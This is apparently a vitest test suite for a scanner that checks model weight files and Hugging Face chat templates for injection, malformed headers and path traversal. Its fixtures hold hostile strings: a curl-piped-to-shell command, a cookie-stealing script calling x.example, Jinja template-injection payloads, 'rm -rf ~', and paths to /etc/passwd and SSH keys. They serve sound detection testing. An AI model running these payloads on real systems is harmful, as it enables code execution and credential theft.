import { readFileSync } from "node:fs";

import { binarySource, runDetector, textSource } from "@watchtower/tester";
import type { BinaryFormat, ReportDescriptor } from "@watchtower/types";
import { atLeast, docsUrlFor } from "@watchtower/types";
import { describe, expect, it } from "vitest";

import { detector } from "../src/index.js";
import {
  benignOnnx,
  BENIGN_TEMPLATES,
  encodeOnnx,
  gguf,
  MALICIOUS_TEMPLATES,
  onnxNode,
  safetensors,
  tflite,
} from "./fixtures/build.js";

const run = (path: string, bytes: Uint8Array, format: BinaryFormat, files: Record<string, string> = {}) =>
  runDetector(detector, binarySource(path, bytes, format), { files });
const sev = (r: ReportDescriptor) => r.severity ?? detector.meta.rules.find((m) => m.id === r.ruleId)!.defaultSeverity;
const mediumPlus = (rs: ReportDescriptor[]) => rs.filter((r) => atLeast(sev(r), "medium"));
const summary = (rs: ReportDescriptor[]) => rs.map((r) => [r.ruleId, sev(r)]);

const LAYER = [
  { name: "model.embed_tokens.weight", dtype: "F16", shape: [32, 8] },
  { name: "model.layers.0.self_attn.q_proj.weight", dtype: "BF16", shape: [8, 8] },
  { name: "lm_head.weight", dtype: "F32", shape: [32, 8] },
];

describe("safetensors", () => {
  it("a normal file with HF metadata reports nothing", async () => {
    const rec = await run("model.safetensors", safetensors(LAYER, { metadata: { format: "pt" } }), "safetensors");
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("LoRA training metadata with long JSON values and a thumbnail stays below medium", async () => {
    const tags = Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`tag_${i}`, i]));
    const metadata = {
      ss_network_module: "networks.lora",
      ss_tag_frequency: JSON.stringify({ "10_subject": tags }),
      ss_dataset_dirs: JSON.stringify({ "10_subject": { n_repeats: 10, img_count: 40 } }),
      "modelspec.thumbnail": `data:image/jpeg;base64,${"A".repeat(2_000_000)}`,
      "modelspec.title": "My LoRA {style}",
    };
    const rec = await run("lora.safetensors", safetensors(LAYER, { metadata }), "safetensors");
    expect(mediumPlus(rec.reports)).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("a header length beyond 100 MB is high", async () => {
    const rec = await run("m.safetensors", safetensors(LAYER, { headerLength: 1n << 40n }), "safetensors");
    expect(summary(rec.reports)).toEqual([["weights/safetensors-header-invalid", "high"]]);
  });

  it("a header length beyond a small file is truncation: incomplete", async () => {
    const full = safetensors(LAYER);
    const rec = await run("m.safetensors", full.subarray(0, 40), "safetensors");
    expect(rec.incompletes).toHaveLength(1);
    expect(rec.reports).toEqual([]);
  });

  it("a file cut inside the data area is incomplete, not a finding", async () => {
    const full = safetensors(LAYER);
    const rec = await run("m.safetensors", full.subarray(0, full.length - 100), "safetensors");
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes[0]!.details).toMatch(/truncated/);
  });

  it("offsets past the data area, overlaps and size mismatches are high", async () => {
    const crafted = safetensors([
      { name: "a", dtype: "F32", shape: [4], offsets: [0, 16] },
      { name: "b", dtype: "F32", shape: [4], offsets: [8, 24] },
      { name: "c", dtype: "F32", shape: [1000], offsets: [24, 28] },
      { name: "d", dtype: "F32", shape: [4], offsets: [28, 1 << 30] },
    ], { dataLength: 44 });
    const rec = await run("evil.safetensors", crafted, "safetensors");
    const high = rec.reports.filter((r) => sev(r) === "high").map((r) => r.message);
    expect(high.some((m) => m.includes('"c" spans 4 bytes'))).toBe(true);
    expect(high.some((m) => m.includes("beyond"))).toBe(true);
    expect(high.some((m) => m.includes("overlap"))).toBe(true);
    expect(rec.incompletes).toEqual([]);
  });

  it("bytes hidden after the last tensor are medium, a pickle there is high", async () => {
    const junk = await run("m.safetensors", safetensors(LAYER, { tail: Uint8Array.from([1, 2, 3, 4, 5]) }), "safetensors");
    expect(summary(junk.reports)).toEqual([["weights/safetensors-header-invalid", "medium"]]);
    const pickle = Uint8Array.from([0x80, 0x04, 0x95, 0x10, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x02, 0x6f, 0x73]);
    const rec = await run("m.safetensors", safetensors(LAYER, { tail: pickle }), "safetensors");
    expect(summary(rec.reports)).toEqual([["weights/safetensors-header-invalid", "high"]]);
    expect(rec.reports[0]!.message).toContain("pickle");
  });

  it("metadata must map strings to strings", async () => {
    const rec = await run("m.safetensors", safetensors(LAYER, { metadata: { format: "pt", epochs: 3 } }), "safetensors");
    expect(summary(rec.reports)).toEqual([["weights/safetensors-header-invalid", "medium"]]);
  });

  it("code, shell, script and template payloads in metadata are flagged", async () => {
    const metadata = {
      format: "pt",
      note: "__import__('os').system('curl http://x.example/s | sh')",
      description: "<script>fetch('//x.example/?c='+document.cookie)</script>",
      prompt: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    };
    const rec = await run("m.safetensors", safetensors(LAYER, { metadata }), "safetensors");
    const bySev = rec.reports.map((r) => [r.ruleId, sev(r), r.evidence]);
    expect(bySev).toContainEqual(["weights/safetensors-metadata-injection", "high", "note: Python __import__ call"]);
    expect(bySev).toContainEqual(["weights/safetensors-metadata-injection", "medium", "description: HTML script content (XSS in model viewers)"]);
    expect(rec.reports.some((r) => r.evidence?.startsWith("prompt: Jinja") && sev(r) === "critical")).toBe(true);
  });

  it("shell command lines in metadata are medium; links and ordinary text are not reported", async () => {
    const metadata = {
      format: "pt",
      setup: "rm -rf /tmp/cache && wget https://x.example/setup.sh",
      post: "chmod 777 /opt/model",
      homepage: "https://huggingface.co/acme/model",
      training: "Trained for 3 epochs; remove -r flags from the old script before release.",
    };
    const rec = await run("m.safetensors", safetensors(LAYER, { metadata }), "safetensors");
    expect(rec.reports.map((r) => [sev(r), r.evidence]).sort()).toEqual([
      ["medium", "post: chmod shell command"],
      ["medium", "setup: download shell command"],
      ["medium", "setup: recursive delete shell command"],
    ]);
  });

  it("corrupt headers are incomplete", async () => {
    expect((await run("m.safetensors", safetensors(LAYER, { rawHeader: "{not json" }), "safetensors")).incompletes).toHaveLength(1);
    expect((await run("m.safetensors", safetensors(LAYER, { rawHeader: "[1,2]" }), "safetensors")).incompletes).toHaveLength(1);
    expect((await run("m.safetensors", Uint8Array.from([1, 2, 3]), "safetensors")).incompletes).toHaveLength(1);
  });

  it("an unknown-format .safetensors file goes through the safetensors checks", async () => {
    const rec = await run("model.safetensors", safetensors(LAYER, { headerLength: 1n << 50n }), "unknown");
    expect(summary(rec.reports)).toEqual([["weights/safetensors-header-invalid", "high"]]);
  });
});

describe("GGUF", () => {
  const base: [string, { type: "string"; value: string } | { type: "u32"; value: number } | { type: "strings"; value: string[] }][] = [
    ["general.architecture", { type: "string", value: "llama" }],
    ["general.name", { type: "string", value: "tiny-llama" }],
    ["general.alignment", { type: "u32", value: 32 }],
    ["tokenizer.ggml.model", { type: "string", value: "gpt2" }],
    ["tokenizer.ggml.tokens", { type: "strings", value: ["<s>", "</s>", "<script>", "{{", "hello"] }],
  ];
  const tensors = [
    { name: "token_embd.weight", dims: [64, 4], type: 8 },
    { name: "blk.0.attn_q.weight", dims: [256, 2], type: 12 },
    { name: "output_norm.weight", dims: [64], type: 0 },
  ];

  it.each(Object.entries(BENIGN_TEMPLATES))("a benign %s chat template reports nothing", async (_name, template) => {
    const bytes = gguf([...base, ["tokenizer.chat_template", { type: "string", value: template }]], tensors);
    const rec = await run("model.gguf", bytes, "gguf");
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it.each(Object.entries(MALICIOUS_TEMPLATES))("SSTI template %s is high or critical", async (_name, template) => {
    const bytes = gguf([...base, ["tokenizer.chat_template", { type: "string", value: template }]], tensors);
    const rec = await run("evil.gguf", bytes, "gguf");
    expect(rec.reports.length).toBeGreaterThan(0);
    expect(rec.reports.every((r) => r.ruleId === "weights/gguf-chat-template-injection")).toBe(true);
    expect(rec.reports.every((r) => atLeast(sev(r), "high"))).toBe(true);
    expect(rec.reports[0]!.at).toMatchObject({ kind: "binary", member: "metadata/tokenizer.chat_template" });
  });

  it("named chat templates (tokenizer.chat_template.tool_use) are checked too", async () => {
    const bytes = gguf([...base, ["tokenizer.chat_template.tool_use", { type: "string", value: MALICIOUS_TEMPLATES["lipsum"]! }]], tensors);
    const rec = await run("evil.gguf", bytes, "gguf");
    expect(rec.reports.map(sev)).toContain("critical");
  });

  it("impossible tensor and KV counts are high", async () => {
    const rec = await run("evil.gguf", gguf(base, tensors, { tensorCount: 1n << 40n }), "gguf");
    expect(summary(rec.reports)).toEqual([["weights/gguf-header-invalid", "high"]]);
    const rec2 = await run("evil.gguf", gguf(base, tensors, { kvCount: 0xffffffffn }), "gguf");
    expect(summary(rec2.reports)).toEqual([["weights/gguf-header-invalid", "high"]]);
  });

  it("a string length larger than the file is high", async () => {
    const bytes = gguf([["general.name", { type: "raw", typeId: 8, bytes: [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0] }]], []);
    const rec = await run("evil.gguf", bytes, "gguf");
    expect(summary(rec.reports)).toEqual([["weights/gguf-header-invalid", "high"]]);
  });

  it("too many dimensions, bad alignment, overlaps and out-of-bounds offsets are flagged", async () => {
    const bytes = gguf(
      [["general.alignment", { type: "u32", value: 32 }]],
      [
        { name: "a", dims: [32, 2, 1, 1, 1, 1], type: 0 },
        { name: "b", dims: [64], type: 0, offset: 0 },
        { name: "c", dims: [64], type: 0, offset: 64 },
        { name: "d", dims: [64], type: 0, offset: 2 ** 40 },
      ],
      { dataLength: 1024 },
    );
    const rec = await run("evil.gguf", bytes, "gguf");
    const msgs = rec.reports.filter((r) => sev(r) === "high").map((r) => r.message);
    expect(msgs.some((m) => m.includes("dimensions"))).toBe(true);
    expect(msgs.some((m) => m.includes("overlap"))).toBe(true);
    expect(msgs.some((m) => m.includes("beyond"))).toBe(true);
  });

  it("a non-power-of-two alignment is high; an unknown value type is high", async () => {
    const rec = await run("evil.gguf", gguf([["general.alignment", { type: "u32", value: 33 }]], []), "gguf");
    expect(summary(rec.reports)).toEqual([["weights/gguf-header-invalid", "high"]]);
    const rec2 = await run("evil.gguf", gguf([["x", { type: "raw", typeId: 77, bytes: [1, 2, 3, 4] }]], []), "gguf");
    expect(summary(rec2.reports)).toEqual([["weights/gguf-header-invalid", "high"]]);
  });

  it("a truncated download is incomplete", async () => {
    const full = gguf(base, tensors);
    const rec = await run("model.gguf", full.subarray(0, full.length - 50), "gguf");
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toHaveLength(1);
    // Cut inside the metadata: the parser runs out of bytes mid-entry.
    const rec2 = await run("model.gguf", full.subarray(0, 120), "gguf");
    expect(rec2.incompletes).toHaveLength(1);
  });

  it("metadata payloads outside the template are flagged; vocab tokens are not", async () => {
    const bytes = gguf([...base, ["general.description", { type: "string", value: "x'; __import__('os').system('id'); '" }]], tensors);
    const rec = await run("m.gguf", bytes, "gguf");
    expect(summary(rec.reports)).toEqual([["weights/gguf-metadata-injection", "high"]]);
  });

  it("duplicate keys are medium; unsupported versions are incomplete", async () => {
    const dup = gguf([...base, ["general.name", { type: "string", value: "other" }]], tensors);
    expect(summary((await run("m.gguf", dup, "gguf")).reports)).toEqual([["weights/gguf-header-invalid", "medium"]]);
    const v9 = await run("m.gguf", gguf(base, tensors, { version: 9 }), "gguf");
    expect(v9.incompletes).toHaveLength(1);
  });
});

describe("ONNX", () => {
  it("a normal model reports nothing", async () => {
    const rec = await run("model.onnx", encodeOnnx(benignOnnx()), "onnx");
    expect(rec.reports).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("external data next to the model is fine; escaping locations are high", async () => {
    const ext = (name: string, location: string) => ({
      name,
      dims: [10],
      dataType: 1,
      dataLocation: 1,
      externalData: [{ key: "location", value: location }, { key: "offset", value: "0" }, { key: "length", value: "40" }],
    });
    const model = benignOnnx({
      initializer: [
        ext("ok", "model.onnx.data"),
        ext("ok2", "weights/./part-1.bin"),
        ext("abs", "/etc/passwd"),
        ext("up", "weights/../../../home/user/.ssh/id_rsa"),
        ext("win", "C:\\Windows\\win.ini"),
        ext("unc", "\\\\server\\share\\x"),
      ],
    });
    const rec = await run("model.onnx", encodeOnnx(model), "onnx");
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([
      ["weights/onnx-external-data-traversal", "high", "/etc/passwd"],
      ["weights/onnx-external-data-traversal", "high", "weights/../../../home/user/.ssh/id_rsa"],
      ["weights/onnx-external-data-traversal", "high", "C:\\Windows\\win.ini"],
      ["weights/onnx-external-data-traversal", "high", "\\\\server\\share\\x"],
    ]);
  });

  it("external data inside a Loop body subgraph is found", async () => {
    const body = { name: "body", initializer: [{ name: "w", dataLocation: 1, externalData: [{ key: "location", value: "../secret" }] }] };
    const model = benignOnnx({ node: [onnxNode("Loop", ["n", "c"], ["o"], { attribute: [{ name: "body", type: 5, g: body }] })] });
    const rec = await run("model.onnx", encodeOnnx(model), "onnx");
    expect(rec.reports.map((r) => [r.ruleId, r.at.kind === "binary" ? r.at.member : ""])).toEqual([
      ["weights/onnx-external-data-traversal", "graph:main_graph/Loop_o/body/graph:body/initializer:w"],
    ]);
  });

  it("custom domains are medium unless the model defines the function itself", async () => {
    const model = benignOnnx(
      {
        node: [
          onnxNode("Relu", ["x"], ["y"]),
          onnxNode("Attention", ["y"], ["z"], { domain: "com.microsoft" }),
          onnxNode("MyPlugin", ["z"], ["p"], { domain: "trt.plugins" }),
          onnxNode("aten_gelu", ["p"], ["q"], { domain: "pkg.onnxscript.torch_lib" }),
          onnxNode("PythonOp", ["q"], ["r"], { domain: "com.microsoft" }),
        ],
      },
      { functions: [{ name: "aten_gelu", domain: "pkg.onnxscript.torch_lib", node: [onnxNode("Erf", ["a"], ["b"])] }] },
    );
    const rec = await run("model.onnx", encodeOnnx(model), "onnx");
    expect(rec.reports.map((r) => [r.ruleId, sev(r), r.evidence])).toEqual([
      ["weights/onnx-custom-op-domain", "medium", "trt.plugins::MyPlugin"],
      ["weights/onnx-custom-op-domain", "medium", "com.microsoft::PythonOp"],
    ]);
  });

  it("metadata_props payloads are flagged", async () => {
    const rec = await run(
      "model.onnx",
      encodeOnnx(benignOnnx({}, { metadataProps: [{ key: "hook", value: "import os; os.system('rm -rf ~')" }] })),
      "onnx",
    );
    expect(summary(rec.reports)).toEqual([["weights/onnx-metadata-injection", "high"]]);
  });

  it("truncated, corrupt and non-ONNX protobufs are incomplete", async () => {
    const full = encodeOnnx(benignOnnx());
    expect((await run("m.onnx", full.subarray(0, full.length - 30), "onnx")).incompletes).toHaveLength(1);
    expect((await run("m.onnx", Uint8Array.from([0x08, 0x08]), "onnx")).incompletes).toHaveLength(1);
    expect((await run("m.onnx", new Uint8Array(0), "onnx")).incompletes).toHaveLength(1);
  });
});

describe("TensorFlow Lite", () => {
  it("builtin ops and runtime custom ops stay below medium", async () => {
    const bytes = tflite([{ builtin: 3 }, { builtin: 9 }, { builtin: 32, custom: "TFLite_Detection_PostProcess" }]);
    const rec = await run("detect.tflite", bytes, "tflite");
    expect(mediumPlus(rec.reports)).toEqual([]);
    expect(rec.incompletes).toEqual([]);
  });

  it("Flex file and Python ops are high/critical, unknown custom ops medium", async () => {
    const bytes = tflite([
      { builtin: 3 },
      { builtin: 32, custom: "FlexReadFile" },
      { builtin: 32, custom: "FlexPyFunc" },
      { builtin: 32, custom: "FlexConv3D" },
      { builtin: 32, custom: "MyVendorOp" },
    ]);
    const rec = await run("m.tflite", bytes, "tflite");
    expect(rec.reports.map((r) => [r.evidence, sev(r)])).toEqual([
      ["FlexReadFile", "high"],
      ["FlexPyFunc", "critical"],
      ["FlexConv3D", "low"],
      ["MyVendorOp", "medium"],
    ]);
    expect(rec.reports[1]!.at).toMatchObject({ kind: "binary", member: "operator_codes[2]" });
  });

  it("a truncated flatbuffer is incomplete; TFL3 files the runner calls unknown are parsed", async () => {
    const bytes = tflite([{ builtin: 32, custom: "FlexWriteFile" }]);
    expect((await run("m.tflite", bytes.subarray(0, 30), "tflite")).incompletes).toHaveLength(1);
    expect((await run("m.bin", bytes, "unknown")).reports.map(sev)).toEqual(["high"]);
  });
});

describe("unrecognized model formats", () => {
  it("a .pt that is no known format is medium; an empty one low", async () => {
    const rec = await run("weights/model.pt", Uint8Array.from([0xde, 0xad, 0xbe, 0xef, 1, 2, 3, 4, 5]), "unknown");
    expect(summary(rec.reports)).toEqual([["weights/unrecognized-model-format", "medium"]]);
    expect(rec.reports[0]!.evidence).toBe(".pt: de ad be ef 01 02 03 04");
    expect(summary((await run("model.bin", new Uint8Array(0), "unknown")).reports)).toEqual([["weights/unrecognized-model-format", "low"]]);
  });

  it("a .gguf without the magic is flagged", async () => {
    const rec = await run("model.gguf", Uint8Array.from([1, 2, 3, 4, 5, 6, 7, 8]), "unknown");
    expect(summary(rec.reports)).toEqual([["weights/unrecognized-model-format", "medium"]]);
  });

  it("recognisable formats we do not parse are skipped with a reason", async () => {
    const fasttext = Uint8Array.from([0xba, 0x16, 0x4f, 0x2f, 12, 0, 0, 0]);
    const rec = await run("cc.en.300.bin", fasttext, "unknown");
    expect(rec.reports).toEqual([]);
    expect(rec.skips).toEqual([{ reason: "unsupported_format", details: expect.stringContaining("fastText") }]);
    const ggml = Uint8Array.from([0x74, 0x6a, 0x67, 0x67, 1, 0, 0, 0]);
    expect((await run("ggml-model-q4_0.bin", ggml, "unknown")).skips).toHaveLength(1);
  });

  it("OpenVINO and ONNX external-data .bin files are skipped by their siblings", async () => {
    const raw = Uint8Array.from([9, 9, 9, 9, 9, 9, 9, 9]);
    expect((await run("ir/model.bin", raw, "unknown", { "ir/model.xml": "<net/>", "ir/model.bin": "" })).skips).toHaveLength(1);
    expect((await run("onnx/weights.bin", raw, "unknown", { "onnx/model.onnx": "", "onnx/weights.bin": "" })).skips).toHaveLength(1);
    expect((await run("other/weights.bin", raw, "unknown", { "onnx/model.onnx": "" })).reports).toHaveLength(1);
  });

  it("files that are not named like models are left alone", async () => {
    const rec = await run("data/blob.dat", Uint8Array.from([1, 2, 3]), "unknown");
    expect(rec).toEqual({ reports: [], skips: [], incompletes: [], notes: [] });
  });
});

describe("package hygiene", () => {
  const readme = readFileSync(new URL("../README.md", import.meta.url), "utf8");

  it("every rule has a README section, a docs URL and a unique id", () => {
    const ids = detector.meta.rules.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of detector.meta.rules) {
      expect(readme).toContain(`\n## ${r.id}\n`);
      expect(r.docsUrl).toBe(docsUrlFor("detector-weights", r.id));
      expect(r.description.endsWith(".")).toBe(true);
    }
    expect(readme).toContain("\n## Dependencies\n");
  });

  it("index.ts loads the parsers lazily", () => {
    const index = readFileSync(new URL("../src/index.ts", import.meta.url), "utf8");
    expect(index).not.toMatch(/^import .*(protobufjs|safetensors|gguf|onnx|tflite|unrecognized)/m);
  });
});

describe("Hugging Face chat templates (tokenizer_config.json, chat_template.json/.jinja)", () => {
  const text = (path: string, body: string) => runDetector(detector, textSource(path, body));
  const config = (template: unknown) => JSON.stringify({ tokenizer_class: "LlamaTokenizer", model_max_length: 4096, chat_template: template }, null, 2);

  it.each(Object.entries(BENIGN_TEMPLATES))("a benign %s template in tokenizer_config.json reports nothing", async (_name, template) => {
    expect((await text("tokenizer_config.json", config(template))).reports).toEqual([]);
  });

  it.each(Object.entries(MALICIOUS_TEMPLATES))("a %s template is reported at high or above, at the chat_template key", async (_name, template) => {
    const body = config(template);
    const rec = await text("tokenizer_config.json", body);
    expect(rec.reports).toHaveLength(1);
    const [r] = rec.reports;
    expect(r!.ruleId).toBe("weights/chat-template-injection");
    expect(atLeast(sev(r!), "high")).toBe(true);
    expect(r!.at).toMatchObject({ kind: "text", offset: body.indexOf('"chat_template"') });
  });

  it("reads named template lists, chat_template.json and .jinja files", async () => {
    const evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    const list = await text("tokenizer_config.json", config([{ name: "default", template: BENIGN_TEMPLATES.llama3 }, { name: "tool_use", template: evil }]));
    expect(list.reports.map((r) => r.evidence)).toEqual([expect.stringMatching(/^chat_template\[tool_use\]: /)]);
    expect((await text("chat_template.json", JSON.stringify({ chat_template: evil }))).reports).toHaveLength(1);
    const jinja = `{% for m in messages %}{{ m.content }}{% endfor %}\n${evil}\n`;
    const file = await text("chat_template.jinja", jinja);
    expect(file.reports).toHaveLength(1);
    // The location is the construct itself, on the line of the payload.
    const at = file.reports[0]!.at as { offset: number };
    expect(at.offset).toBeGreaterThan(jinja.indexOf("{{ cycler"));
    expect(at.offset).toBeLessThan(jinja.indexOf("{{ cycler") + evil.length);
    expect((await text("additional_chat_templates/rag.jinja", evil)).reports).toHaveLength(1);
  });

  it("ignores JSON without a chat template, broken JSON and web templates that are not chat templates", async () => {
    expect((await text("package.json", JSON.stringify({ name: "x", scripts: { build: "tsc" } }))).reports).toEqual([]);
    expect((await text("tokenizer_config.json", '{"chat_template": "{{ x.__class__ }}"')).reports).toEqual([]);
    expect((await text("templates/base.jinja", '{% extends "layout.html" %}{% include "nav.html" %}')).reports).toEqual([]);
  });
});
